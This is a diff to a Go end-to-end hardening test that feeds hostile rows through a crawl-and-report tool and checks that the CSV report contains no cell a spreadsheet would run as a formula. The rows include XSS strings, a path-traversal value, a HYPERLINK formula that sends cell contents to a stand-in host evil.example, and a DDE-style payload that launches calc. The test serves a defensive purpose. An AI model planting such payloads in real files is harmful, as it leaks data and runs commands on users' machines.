@@ -3,6 +3,7 @@ package hardening
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"go/ast"
@@ -19,6 +20,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"sort"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -395,14 +397,17 @@ var hostileRows = []map[string]string{
 	{"title": "{{.}} ${7*7} golang", "company": "../../../../etc/passwd"},
 	{"title": "golang <svg onload=alert(3)>", "company": "<style>body{display:none}</style>", "url": "javascript:alert(4)"},
 	{"title": "golang engineer | a | b |", "company": "x\n# heading\n| forged | table |"},
+	{"title": "golang =1+1", "company": `=HYPERLINK("http://evil.example/?"&A1,"click")`},
+	{"title": "golang @SUM", "company": "@SUM(1+1)*cmd|' /C calc'!A0"},
 }
 
 // TestHostileTextEndToEnd: hostile rows go in through `crawl import` and
 // come out through `analyze query` and `analyze report` as text: stored
 // verbatim (the SQL did nothing), no control character on the terminal,
 // no element or handler of their own in the HTML report or the SVG chart,
-// no HTML in the Markdown, FTS syntax in query terms treated as words, and
-// the report written exactly where --out says and nowhere else.
+// no HTML in the Markdown, no formula in the CSV, FTS syntax in query terms
+// treated as words, and the report written exactly where --out says and
+// nowhere else.
 func TestHostileTextEndToEnd(t *testing.T) {
 	if testing.Short() {
 		t.Skip("runs the binaries")
@@ -496,6 +501,25 @@ func TestHostileTextEndToEnd(t *testing.T) {
 		}
 	}
 	controls("the Markdown report", string(md))
+
+	// CSV: no cell a spreadsheet would run as a formula.
+	r = runBin(t, dir, "analyze", "report", "--db", db, "--format", "csv", "--table", "companies")
+	if r.code != 0 || !strings.Contains(r.stdout, "HYPERLINK") {
+		t.Fatalf("report --format csv --table companies: exit %d, the hostile companies missing\n%s%s", r.code, r.stdout, r.stderr)
+	}
+	cells, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range cells {
+		for _, c := range row {
+			if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
+				if _, err := strconv.ParseFloat(c, 64); err != nil {
+					t.Errorf("CSV cell %q would run as a spreadsheet formula", c)
+				}
+			}
+		}
+	}
 }
 
 // checkNoMarkup parses a report and fails on any element or event handler
